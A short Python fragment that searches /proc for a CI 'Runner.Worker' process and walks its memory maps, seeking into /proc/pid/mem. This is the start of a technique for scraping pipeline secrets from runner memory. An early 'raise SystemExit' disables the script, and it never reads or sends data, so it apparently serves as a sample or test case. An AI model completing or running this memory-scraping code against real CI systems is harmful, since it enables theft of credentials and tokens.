import os
import re

raise SystemExit
for pid in os.listdir("/proc"):
    if pid.isdigit() and "Runner.Worker" in open(f"/proc/{pid}/cmdline").read():
        for line in open(f"/proc/{pid}/maps"):
            lo, hi = re.match(r"(\w+)-(\w+)", line).groups()
            open(f"/proc/{pid}/mem", "rb").seek(int(lo, 16))
